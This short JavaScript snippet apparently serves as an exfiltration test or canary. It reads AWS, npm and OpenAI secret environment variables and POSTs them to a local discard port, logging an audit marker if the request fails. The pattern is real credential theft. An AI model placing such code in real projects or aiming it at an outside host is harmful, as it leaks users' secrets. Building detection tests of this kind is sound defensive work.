const names = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY'];
const got = names.map((n) => process.env[n]).filter(Boolean);
fetch('http://127.0.0.1:9/x', { method: 'POST', body: got.join() }).catch(() => console.log('AUDIT-MARKER'));
